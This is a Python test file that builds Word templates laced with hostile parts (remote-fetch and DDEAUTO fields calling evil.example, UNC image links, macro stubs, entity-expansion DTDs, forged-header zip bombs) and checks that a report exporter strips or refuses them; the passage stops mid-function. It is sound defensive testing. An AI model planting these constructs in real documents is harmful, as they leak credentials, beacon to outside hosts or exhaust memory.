"""A hostile Word template: the report keeps the house look and nothing that reaches out.

Templates are built here from the built-in report.docx, given a house style, header text and
a header logo, then every hostile part a real template can carry is added with zipfile/lxml.
Each report is unzipped part by part and checked.
"""

import io
import re
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from digifelt.exports.report import ReportError, write_report

ROOT = Path(__file__).resolve().parents[2]
BUILTIN = ROOT / "resources" / "templates" / "report.docx"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
HOUSE_STYLE = "Fjellvik Brødtekst"
HOUSE_HEADER = "Fjellvik kommune – husmal"
SECRET = "Per Hemmelig"
EVIL = "evil.example"
FORBIDDEN_FIELDS = {"INCLUDEPICTURE", "INCLUDETEXT", "INCLUDE", "LINK", "DDE", "DDEAUTO",
                    "IMPORT", "HYPERLINK", "USERNAME", "AUTHOR", "MERGEFIELD", "DOCVARIABLE"}
FORBIDDEN_PARTS = ("customxml", "glossary", "footnotes", "endnotes", "vba", "comments",
                   "people", "embeddings", "activex", "docprops/custom", "websettings",
                   "afchunk", "fonts/")


def png(width: int = 4, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    rows = b"".join(b"\x00" + b"\xc0\x00\x50" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2,
                                                              0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


LOGO = png()


def house_docx() -> bytes:
    """The built-in template with a house style, header text and a header logo."""
    from docx.enum.style import WD_STYLE_TYPE
    from docx.shared import Pt

    doc = Document(BUILTIN)
    style = doc.styles.add_style(HOUSE_STYLE, WD_STYLE_TYPE.PARAGRAPH)
    style.font.name, style.font.size = "Georgia", Pt(11)
    header = doc.sections[-1].header
    header.paragraphs[0].text = HOUSE_HEADER
    header.add_paragraph().add_run().add_picture(io.BytesIO(LOGO))
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


HOUSE = house_docx()


class Package:
    """A template as a dict of parts, with helpers to add parts, relationships and XML."""

    def __init__(self, blob: bytes):
        with zipfile.ZipFile(io.BytesIO(blob)) as zf:
            self.parts = {n: zf.read(n) for n in zf.namelist()}
        rels = etree.fromstring(self.parts["word/_rels/document.xml.rels"])
        self.header = "word/" + next(r.get("Target") for r in rels
                                     if r.get("Type") == REL + "header")

    def rels_name(self, part: str) -> str:
        folder, base = part.rsplit("/", 1) if "/" in part else ("", part)
        return f"{folder}/_rels/{base}.rels".lstrip("/")

    def relate(self, part: str, kind: str, target: str, external: bool = False) -> str:
        name = self.rels_name(part)
        root = etree.fromstring(self.parts.get(name) or f'<Relationships xmlns="{PR}"/>'.encode())
        rid = f"rIdEvil{len(root) + 1}"
        rel = etree.SubElement(root, f"{{{PR}}}Relationship", Id=rid, Target=target,
                               Type=kind if kind.startswith("http") else REL + kind)
        if external:
            rel.set("TargetMode", "External")
        self.parts[name] = etree.tostring(root)
        return rid

    def add_part(self, name: str, content_type: str, data: bytes) -> None:
        self.parts[name] = data
        root = etree.fromstring(self.parts["[Content_Types].xml"])
        etree.SubElement(root, f"{{{CT}}}Override", PartName="/" + name,
                         ContentType=content_type)
        self.parts["[Content_Types].xml"] = etree.tostring(root)

    def append_xml(self, part: str, xml: str, into: str | None = None) -> None:
        root = etree.fromstring(self.parts[part])
        parent = root if into is None else root.find(into)
        for el in etree.fromstring(f"<x {NS}>{xml}</x>"):
            parent.append(el)
        self.parts[part] = etree.tostring(root, xml_declaration=True, encoding="UTF-8",
                                          standalone=True)

    def blob(self, template: bool = False) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in self.parts.items():
                if template and name == "[Content_Types].xml":
                    data = data.replace(DOC_MAIN.encode(), DOT_MAIN.encode())
                zf.writestr(name, data)
        return out.getvalue()


def _field(instr: str, result: str) -> str:
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instr}</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _picture(attrs: str) -> str:
    return ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
            '<wp:docPr id="77" name="beacon"/><a:graphic><a:graphicData '
            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
            f'<pic:nvPicPr><pic:cNvPr id="77" name="b"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {attrs}/></pic:blipFill><pic:spPr/></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')


def remote_image(p: Package) -> None:
    rid = p.relate(p.header, "image", f"http://{EVIL}/beacon.png", external=True)
    p.append_xml(p.header, _picture(f'r:link="{rid}"'))
    unc = p.relate(p.header, "image", f"\\\\{EVIL}\\share\\logo.png", external=True)
    p.append_xml(p.header, f'<w:p><w:r><w:pict><v:shape href="http://{EVIL}/click" '
                           f'style="width:10pt;height:10pt"><v:imagedata r:href="{unc}" '
                           f'o:title="x"/></v:shape></w:pict></w:r></w:p>')


def include_fields(p: Package) -> None:
    p.append_xml(p.header, _field(f'INCLUDEPICTURE "http://{EVIL}/include.png" \\d', "BILDE"))
    p.append_xml(p.header, f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\{EVIL}'
                           f'\\\\share\\\\x.docx&quot; "><w:r><w:t>{SECRET}</w:t></w:r>'
                           '</w:fldSimple></w:p>')
    p.append_xml(p.header, _field(f'DDEAUTO excel "\\\\\\\\{EVIL}\\\\s\\\\a.xls" "A1"', SECRET))
    p.append_xml(p.header, _field(f'LINK Excel.Sheet.8 "file:///C:/{EVIL}/a.xls" ""', "L"))
    # A field nested in another's instruction, and one that never ends.
    p.append_xml(p.header, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                           '<w:instrText>IF 1 = 1 </w:instrText></w:r>'
                           + _field(f'INCLUDETEXT "http://{EVIL}/n.docx"', "N")[5:-6]
                           + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>'
                           'nested</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    p.append_xml(p.header, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                           f'<w:instrText>INCLUDEPICTURE "http://{EVIL}/u.png"</w:instrText>'
                           '</w:r></w:p>')
    p.append_xml(p.header, _field("USERNAME", SECRET))


def hyperlink(p: Package) -> None:
    rid = p.relate(p.header, "hyperlink", f"http://{EVIL}/?q=1", external=True)
    p.append_xml(p.header, f'<w:p><w:hyperlink r:id="{rid}"><w:r><w:t>Lenke</w:t></w:r>'
                           '</w:hyperlink></w:p>')
    p.append_xml(p.header, _field(f'HYPERLINK "http://{EVIL}/h"', "Lenketekst"))


def frame(p: Package) -> None:
    p.relate("word/document.xml", "frame", f"http://{EVIL}/frame.html", external=True)
    rid = p.relate("word/webSettings.xml", "frame", f"http://{EVIL}/", external=True)
    p.parts["word/webSettings.xml"] = (
        f'<w:webSettings {NS}><w:frameset><w:frame><w:name w:val="f"/>'
        f'<w:sourceFileName r:id="{rid}"/></w:frame></w:frameset></w:webSettings>').encode()


def mail_merge(p: Package) -> None:
    rid = p.relate("word/settings.xml", "mailMergeSource",
                   f"file:///\\\\{EVIL}\\share\\data.xlsx", external=True)
    p.append_xml("word/settings.xml",
                 '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                 f'<w:connectString w:val="Data Source=\\\\{EVIL}\\share\\data.xlsx"/>'
                 '<w:query w:val="SELECT * FROM x"/>'
                 f'<w:dataSource r:id="{rid}"/></w:mailMerge>')
    tpl = p.relate("word/settings.xml", "attachedTemplate",
                   f"file:///C:/Users/{SECRET}/Normal.dotm", external=True)
    p.append_xml("word/settings.xml", f'<w:attachedTemplate r:id="{tpl}"/>'
                                      f'<w:docVars><w:docVar w:name="s" w:val="{SECRET}"/>'
                                      '</w:docVars>')


def custom_xml(p: Package) -> None:
    p.parts["customXml/item9.xml"] = f"<saksbehandler>{SECRET}</saksbehandler>".encode()
    p.relate("word/document.xml", "customXml", "../customXml/item9.xml")


def glossary(p: Package) -> None:
    p.add_part("word/glossary/document.xml",
               "application/vnd.openxmlformats-officedocument.wordprocessingml."
               "document.glossary+xml",
               f'<w:glossaryDocument {NS}><w:docParts><w:docPart><w:docPartBody><w:p><w:r>'
               f'<w:t>{SECRET}</w:t></w:r></w:p></w:docPartBody></w:docPart></w:docParts>'
               '</w:glossaryDocument>'.encode())
    p.relate("word/document.xml", "glossaryDocument", "glossary/document.xml")


def notes(p: Package) -> None:
    for kind in ("footnote", "endnote"):
        p.add_part(f"word/{kind}s.xml",
                   f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}s+xml",
                   f'<w:{kind}s {NS}><w:{kind} w:id="1"><w:p><w:r><w:t>{SECRET}</w:t></w:r>'
                   f'</w:p></w:{kind}></w:{kind}s>'.encode())
        p.relate("word/document.xml", f"{kind}s", f"{kind}s.xml")
    p.append_xml(p.header, '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')
    p.append_xml("word/settings.xml", '<w:footnotePr><w:footnote w:id="1"/></w:footnotePr>')


def tracked(p: Package) -> None:
    p.append_xml(p.header, f'<w:p><w:pPr><w:rPr><w:ins w:id="91" w:author="{SECRET}"/></w:rPr>'
                           f'</w:pPr><w:ins w:id="92" w:author="{SECRET}" w:date="2026-01-01'
                           'T00:00:00Z"><w:r><w:t>Innsatt</w:t></w:r></w:ins>'
                           f'<w:del w:id="93" w:author="{SECRET}"><w:r><w:delText>Slettet'
                           '</w:delText></w:r></w:del><w:r><w:rPr><w:b/><w:rPrChange '
                           f'w:id="94" w:author="{SECRET}"><w:rPr/></w:rPrChange></w:rPr>'
                           '<w:t>Fet</w:t></w:r></w:p>')
    p.append_xml(p.header, f'<w:p><w:permStart w:id="5" w:ed="{SECRET}@fjellvik.no"/>'
                           '<w:r><w:t>Fritt</w:t></w:r><w:permEnd w:id="5"/></w:p>')


def macros(p: Package) -> None:
    p.parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + SECRET.encode() * 10
    p.relate("word/document.xml", "http://schemas.microsoft.com/office/2006/relationships/"
             "vbaProject", "vbaProject.bin")
    root = etree.fromstring(p.parts["[Content_Types].xml"])
    etree.SubElement(root, f"{{{CT}}}Default", Extension="bin",
                     ContentType="application/vnd.ms-office.vbaProject")
    p.parts["[Content_Types].xml"] = etree.tostring(root)


def ole_and_activex(p: Package) -> None:
    p.parts["word/embeddings/oleObject1.bin"] = SECRET.encode() * 5
    rid = p.relate(p.header, "oleObject", "embeddings/oleObject1.bin")
    p.append_xml(p.header, '<w:p><w:r><w:object><v:shape id="o1" style="width:1pt;height:1pt"'
                           f'/><o:OLEObject Type="Embed" ProgID="Package" r:id="{rid}"/>'
                           '</w:object></w:r></w:p>')
    p.parts["word/activeX/activeX1.xml"] = f"<ax>{SECRET}</ax>".encode()
    ctl = p.relate(p.header, "control", "activeX/activeX1.xml")
    p.append_xml(p.header, f'<w:p><w:r><w:control r:id="{ctl}" w:name="x"/></w:r></w:p>')


def comments_and_props(p: Package) -> None:
    p.add_part("word/comments.xml",
               "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
               f'<w:comments {NS}><w:comment w:id="0" w:author="{SECRET}"><w:p><w:r><w:t>'
               'hei</w:t></w:r></w:p></w:comment></w:comments>'.encode())
    p.relate("word/document.xml", "comments", "comments.xml")
    p.add_part("docProps/custom.xml",
               "application/vnd.openxmlformats-officedocument.custom-properties+xml",
               '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
               'custom-properties"><property name="Saksbehandler" fmtid="{D5CDD505-2E9C-101B-'
               f'9397-08002B2CF9AE}}" pid="2"><vt:lpwstr xmlns:vt="x">{SECRET}</vt:lpwstr>'
               '</property></Properties>'.encode())
    p.relate("", "custom-properties", "docProps/custom.xml")
    p.parts["docProps/app.xml"] = p.parts["docProps/app.xml"].replace(
        b"</Properties>", f"<Manager>{SECRET}</Manager></Properties>".encode())
    p.parts["docProps/core.xml"] = p.parts["docProps/core.xml"].replace(
        b"</cp:coreProperties>", f"<dc:creator>{SECRET}</dc:creator></cp:coreProperties>"
        .encode())


def external_header_and_chunk(p: Package) -> None:
    rid = p.relate("word/document.xml", "header", f"http://{EVIL}/h.xml", external=True)
    p.append_xml("word/document.xml", f'<w:headerReference w:type="even" r:id="{rid}"/>',
                 into=f"{{{W}}}body/{{{W}}}sectPr")
    p.parts["word/afchunk.mht"] = SECRET.encode()
    chunk = p.relate("word/document.xml", "aFChunk", "afchunk.mht")
    p.append_xml("word/document.xml", f'<w:altChunk r:id="{chunk}"/>', into=f"{{{W}}}body")
    p.parts["word/fonts/font1.odttf"] = SECRET.encode()
    font = p.relate("word/fontTable.xml", "font", "fonts/font1.odttf")
    p.append_xml("word/fontTable.xml", f'<w:font w:name="Evil"><w:embedRegular r:id="{font}" '
                                       'w:fontKey="{00000000-0000-0000-0000-000000000000}"/>'
                                       '</w:font>')


GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00" \
    b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
FOOTER = "word/footer1.xml"


def page_fields(p: Package) -> None:
    p.append_xml(p.header, _field(" PAGE \\* MERGEFORMAT ", "1")
                 + '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>9</w:t></w:r>'
                   '</w:fldSimple></w:p>')


def footer_logo(p: Package) -> None:
    p.parts["word/media/footer-logo.gif"] = GIF
    root = etree.fromstring(p.parts["[Content_Types].xml"])
    etree.SubElement(root, f"{{{CT}}}Default", Extension="gif", ContentType="image/gif")
    p.parts["[Content_Types].xml"] = etree.tostring(root)
    rid = p.relate(FOOTER, "image", "media/footer-logo.gif")
    p.append_xml(FOOTER, _picture(f'r:embed="{rid}"'))


def vml_logo_and_svg(p: Package) -> None:
    rid = p.relate(p.header, "image", "media/image1.png")
    p.append_xml(p.header, '<w:p><w:r><w:pict><v:shape id="l" style="width:10pt;height:10pt">'
                           f'<v:imagedata r:id="{rid}" o:title="logo"/></v:shape></w:pict>'
                           '</w:r></w:p>')
    p.parts["word/media/logo.svg"] = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="' \
                                     f'http://{EVIL}/s.png"/></svg>'.encode()
    svg = p.relate(p.header, "image", "media/logo.svg")
    png_rid = p.relate(p.header, "image", "media/image1.png")
    p.append_xml(p.header, _picture(
        f'r:embed="{png_rid}"><a:extLst><a:ext uri="{{96DAC541-7B7A-43D3-8B79-37D633B846F1}}">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
        f'r:embed="{svg}"/></a:ext></a:extLst></a:blip><a:dummy x="1"').replace(
            '<a:dummy x="1"/>', ""))


def no_theme(p: Package) -> None:
    rels = etree.fromstring(p.parts["word/_rels/document.xml.rels"])
    for rel in list(rels):
        if rel.get("Type") == REL + "theme":
            rels.remove(rel)
    p.parts["word/_rels/document.xml.rels"] = etree.tostring(rels)


HOUSE_EXTRAS = {f.__name__: f for f in (page_fields, footer_logo, vml_logo_and_svg, no_theme)}
HOSTILE = {f.__name__: f for f in (remote_image, include_fields, hyperlink, frame, mail_merge,
                                   custom_xml, glossary, notes, tracked, macros, ole_and_activex,
                                   comments_and_props, external_header_and_chunk)}


def hostile_template(folder: Path, names, suffix: str) -> Path:
    package = Package(HOUSE)
    # include_fields ends with a field that never ends, which swallows all that follows it
    for name in sorted(names, key=lambda n: n == "include_fields"):
        {**HOSTILE, **HOUSE_EXTRAS}[name](package)
    path = folder / f"mal-{len(list(folder.glob('mal-*')))}{suffix}"
    path.write_bytes(package.blob(template=suffix == ".dotx"))
    return path


def unzip(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def field_names(root) -> set[str]:
    """Every word of every field instruction, simple or complex."""
    text = " ".join([el.get(f"{{{W}}}instr") or "" for el in root.iter(f"{{{W}}}fldSimple")]
                    + [el.text or "" for el in root.iter(f"{{{W}}}instrText")])
    return {word.upper() for word in re.findall(r"[A-Za-z]+", text)}


def assert_report_is_clean(out: Path) -> None:
    parts = unzip(out)
    for name, data in parts.items():
        low = name.lower()
        assert not any(bad in low for bad in FORBIDDEN_PARTS), name
        assert b'TargetMode="External"' not in data, name
        assert EVIL.encode() not in data, name
        assert SECRET.encode() not in data, name
        assert b"\\\\" not in data, name
        assert b"file:" not in data, name
        if name.endswith(".rels"):
            for rel in etree.fromstring(data):
                target = rel.get("Target")
                assert not re.match(r"^[a-z]+:|^[\\/]{2}", target, re.IGNORECASE), target
                assert rel.get("TargetMode") is None
        if name.endswith(".xml") or name.endswith(".rels"):
            root = etree.fromstring(data)
            assert not FORBIDDEN_FIELDS & field_names(root), (name, field_names(root))
            assert b"mailMerge" not in data, name
            assert not [el for el in root.iter() if isinstance(el.tag, str) and any(
                etree.QName(k).localname in ("author", "ed") for k in el.attrib)], name
    assert b"<w:del " not in b"".join(parts.values())


def assert_house_survives(out: Path) -> None:
    doc = Document(out)
    assert HOUSE_STYLE in doc.styles
    assert doc.styles[HOUSE_STYLE].font.name == "Georgia"
    header = doc.sections[-1].header
    assert header.paragraphs[0].text == HOUSE_HEADER
    pictures = [rel.target_part.blob for rel in header.part.rels.values()
                if rel.reltype.endswith("/image") and not rel.is_external]
    assert set(pictures) == {LOGO}
    blips = header._element.xpath(".//a:blip/@r:embed")
    assert blips
    assert header.part.rels[blips[0]].target_part.blob == LOGO


def assert_extras_survive(out: Path, extras) -> None:
    """What a house template may rightly hold is still there."""
    doc = Document(out)
    header = doc.sections[-1].header._element
    if "page_fields" in extras:
        assert "PAGE" in field_names(header)
        assert "NUMPAGES" in field_names(header)
    if "footer_logo" in extras:
        footers = [doc.sections[-1].footer, doc.sections[-1].first_page_footer]
        blobs = {rel.target_part.blob for f in footers for rel in f.part.rels.values()
                 if rel.reltype.endswith("/image")}
        assert GIF in blobs
    if "vml_logo_and_svg" in extras:
        shapes = etree.ElementBase.xpath(header, ".//v:shape[v:imagedata]",
                                         namespaces={"v": "urn:schemas-microsoft-com:vml"})
        assert [s.get("style") for s in shapes] == ["width:10pt;height:10pt"]
        assert len(header.xpath(".//a:blip/@r:embed")) == 2
        assert not header.xpath(".//*[local-name()='svgBlip']")


@pytest.mark.parametrize("suffix", [".docx", ".dotx"])
@pytest.mark.parametrize("hostile", sorted(HOSTILE))
def test_each_hostile_part_is_left_out_and_the_house_look_kept(project, tmp_path, hostile,
                                                                  suffix):
    template = hostile_template(tmp_path, [hostile], suffix)
    raw = b"".join(unzip(template).values())
    assert EVIL.encode() in raw or SECRET.encode() in raw
    out = tmp_path / "rapport.docx"
    write_report(project, out, template=template)
    assert_report_is_clean(out)
    assert_house_survives(out)


def test_accepted_insertions_and_link_texts_stay_as_plain_text(project, tmp_path):
    template = hostile_template(tmp_path, ["tracked", "hyperlink", "include_fields"], ".docx")
    out = tmp_path / "rapport.docx"
    write_report(project, out, template=template)
    text = "\n".join(p.text for p in Document(out).sections[-1].header.paragraphs)
    assert "Innsatt" in text
    assert "Fet" in text
    assert "Slettet" not in text
    assert "Lenke" in text
    assert "Lenketekst" in text
    assert "BILDE" not in text  # a fetched picture's stand-in is not the house's content


@settings(max_examples=20, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture,
                                 HealthCheck.too_slow])
@given(names=st.lists(st.sampled_from(sorted(HOSTILE) + sorted(HOUSE_EXTRAS)), unique=True,
                     max_size=len(HOSTILE) + len(HOUSE_EXTRAS)),
       suffix=st.sampled_from([".docx", ".dotx"]))
def test_any_mix_of_hostile_and_house_parts_gives_a_clean_report(project, tmp_path, names,
                                                                 suffix):
    template = hostile_template(tmp_path, names, suffix)
    out = tmp_path / f"rapport-{template.stem}.docx"
    write_report(project, out, template=template)
    assert_report_is_clean(out)
    assert_house_survives(out)
    assert_extras_survive(out, names)


@pytest.mark.parametrize("extra", sorted(HOUSE_EXTRAS))
def test_what_a_house_template_may_hold_is_kept(project, tmp_path, extra):
    template = hostile_template(tmp_path, [extra, *sorted(HOSTILE)], ".docx")
    out = tmp_path / "rapport.docx"
    write_report(project, out, template=template)
    assert_report_is_clean(out)
    assert_house_survives(out)
    assert_extras_survive(out, [extra])


def _with_part(name: str, data: bytes, folder: Path, file_name: str = "mal.docx") -> Path:
    package = Package(HOUSE)
    package.parts[name] = data
    path = folder / file_name
    path.write_bytes(package.blob(template=file_name.endswith(".dotx")))
    return path


@pytest.mark.parametrize(("make", "message"), [
    (lambda f: _with_part("word/styles.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a '
                          b'"aaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:styles xmlns:w="' + W.encode()
                          + b'">&b;</w:styles>', f), "declares a DTD"),
    (lambda f: _with_part("word/styles.xml", b'<?xml version="1.0"?><!DOCTYPE x SYSTEM '
                          b'"http://evil.example/x.dtd"><x/>', f), "declares a DTD"),
    (lambda f: _with_part("[Content_Types].xml", Package(HOUSE).parts["[Content_Types].xml"]
                          .replace(DOC_MAIN.encode(), b"application/vnd.ms-word.document."
                                   b"macroEnabled.main+xml"), f, "mal.dotx"), "macro-enabled"),
    (lambda f: _with_part("_rels/.rels", b"<Relationships xmlns='" + PR.encode() + b"'/>", f),
     "not a Word document or template"),
])
def test_refused_templates_name_the_file_in_one_line(project, tmp_path, make, message):
    template = make(tmp_path)
    out = tmp_path / "rapport.docx"
    with pytest.raises(ReportError) as caught:
        write_report(project, out, template=template)
    text = str(caught.value)
    assert text.startswith(f"{template.name}: ")
    assert message in text
    assert "\n" not in text
    assert "object at 0x" not in text
    assert not out.exists()


def test_a_main_part_typed_macro_enabled_with_a_decoy_is_refused_without_a_repr(project,
                                                                                tmp_path):
    package = Package(HOUSE)
    root = etree.fromstring(package.parts["[Content_Types].xml"])
    for override in root:
        if override.get("ContentType") == DOC_MAIN:
            override.set("ContentType", "application/vnd.ms-word.document.macroEnabled.main+xml")
    etree.SubElement(root, f"{{{CT}}}Override", PartName="/word/decoy.xml", ContentType=DOC_MAIN)
    package.parts["[Content_Types].xml"] = etree.tostring(root)
    template = tmp_path / "T3.docx"
    template.write_bytes(package.blob())
    with pytest.raises(ReportError, match=r"^T3\.docx: macro-enabled templates") as caught:
        write_report(project, tmp_path / "r.docx", template=template)
    assert "0x" not in str(caught.value)


BOMB_SCRIPT = textwrap.dedent("""
    import resource, sys, time
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    from pathlib import Path
    from digifelt.exports.report.template import open_template
    from digifelt.exports.report.errors import ReportError
    started = time.monotonic()
    try:
        open_template(Path(sys.argv[1]))
    except ReportError as exc:
        print(exc)
        print(round(time.monotonic() - started, 2))
        sys.exit(0)
    print("accepted")
    sys.exit(1)
""")


def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of `size` zero bytes, and its CRC, without compressing it all:
    after a full flush every 1 MiB block compresses to the same bytes."""
    block = bytes(1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(block)
    unit = packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(block, crc)
    return unit * (size >> 20) + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), crc


def _bomb(folder: Path, name: str, member: str, size: int) -> Path:
    """The house template with `member` holding `size` zero bytes (about 1000:1)."""
    raw, crc = _zeros_deflated(size)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(HOUSE)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if name.endswith(".dotx") and info.filename == "[Content_Types].xml":
                data = data.replace(DOC_MAIN.encode(), DOT_MAIN.encode())
            if info.filename != member:
                dst.writestr(info.filename, data, zipfile.ZIP_DEFLATED)
        dst.writestr(member, raw, zipfile.ZIP_STORED)  # stored now, declared deflated below
    blob = bytearray(out.getvalue())
    for found in re.finditer(re.escape(member.encode()), blob):
        start = found.start()
        for head, signature, method in ((start - 30, b"PK\x03\x04", 8),
                                        (start - 46, b"PK\x01\x02", 10)):
            if blob[head:head + 4] == signature:
                at = head + method
                blob[at:at + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
                blob[at + 6:at + 10] = struct.pack("<I", crc)
                blob[at + 14:at + 18] = struct.pack("<I", size)
    path = folder / name
    path.write_bytes(bytes(blob))
    with zipfile.ZipFile(path) as check:  # a real bomb: it does inflate to `size`
        with check.open(member) as fh:
            assert fh.read(1 << 20) == bytes(1 << 20)
        assert check.getinfo(member).file_size == size
    return path


@pytest.mark.parametrize(("name", "member", "size", "message"), [
    ("bomb.dotx", "word/unused.bin", 2 << 30, "would inflate to more than"),
    ("bomb-ref.docx", "word/media/image1.png", 1 << 30, "would inflate to more than"),
    ("bomb-styles.docx", "word/styles.xml", 150 << 20, "larger than"),
    ("bomb-settings.dotx", "word/settings.xml", 12 << 20, "larger than"),
    ("bomb-logo.docx", "word/media/image1.png", 4 << 20, "inflates more than"),
])
def test_a_decompression_bomb_is_refused_quickly_within_1_gb(tmp_path, name, member, size,
                                                              message):
    template = _bomb(tmp_path, name, member, size)
    assert template.stat().st_size < 20 << 20
    result = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, str(template)],
                            capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert result.returncode == 0, result.stdout + result.stderr
    line, seconds = result.stdout.strip().splitlines()
    assert line.startswith(f"{name}: ")
    assert message in line
    assert float(seconds) < 5


def test_a_size_the_zip_directory_lies_about_is_not_believed(tmp_path):
    """A header image that claims 1 KB but inflates to 64 MB: never 64 MB in memory."""
    from digifelt.exports.bounded_zip import BoundedZip, ZipLimitError

    member = "word/media/image1.png"
    path = tmp_path / "liar.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(member, b"\x00" * (64 << 20))
    blob = bytearray(path.read_bytes())
    for found in re.finditer(re.escape(member.encode()), blob):
        start = found.start()
        if blob[start - 46:start - 42] == b"PK\x01\x02":  # central directory entry
            blob[start - 46 + 24:start - 46 + 28] = struct.pack("<I", 1024)
        if blob[start - 30:start - 26] == b"PK\x03\x04":  # local header
            blob[start - 30 + 22:start - 30 + 26] = struct.pack("<I", 1024)
    path.write_bytes(bytes(blob))
    with zipfile.ZipFile(path) as liar:
        assert liar.getinfo(member).file_size == 1024
    with BoundedZip(path) as zf, pytest.raises(ZipLimitError, match="cannot be unpacked"):
        zf.read(member)


def _offline() -> list[str]:
    """A command prefix that runs without any network (a fresh network namespace), if the
    machine allows it; the report is checked to link nowhere either way."""
    import shutil

    unshare = shutil.which("unshare")
    if unshare and subprocess.run([unshare, "-n", "true"], capture_output=True).returncode == 0:
        return [unshare, "-n"]
    return []


def test_the_report_from_a_hostile_template_opens_in_libreoffice_offline(project, tmp_path):
    from test_report_pdf import page_count, soffice

    template = hostile_template(tmp_path, sorted(HOSTILE) + sorted(HOUSE_EXTRAS), ".dotx")
    out = tmp_path / "rapport.docx"
    write_report(project, out, template=template)
    profile = tmp_path / "lo-profile"
    result = subprocess.run(
        [*_offline(), soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless",
         "--norestore", "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
        capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "rapport.pdf"
    assert pdf.read_bytes().startswith(b"%PDF")
    assert page_count(pdf) >= 10  # title, contents and a chapter per rubric area


@settings(max_examples=80, deadline=None)
@given(data=st.data())
def test_a_damaged_template_opens_or_is_refused_in_one_line(tmp_path_factory, data):
    """Random damage to the zip or to one XML part: a template or one clear line, nothing else."""
    from digifelt.exports.report.template import open_template

    package = Package(HOUSE)
    how = data.draw(st.sampled_from(["bytes", "xml", "truncate", "drop"]))
    blob = bytearray(package.blob())
    if how == "bytes":
        for _ in range(data.draw(st.integers(1, 20))):
            blob[data.draw(st.integers(0, len(blob) - 1))] = data.draw(st.integers(0, 255))
    elif how == "truncate":
        blob = blob[:data.draw(st.integers(0, len(blob) - 1))]
    else:
        name = data.draw(st.sampled_from(sorted(package.parts)))
        if how == "drop":
            del package.parts[name]
        else:
            text = package.parts[name]
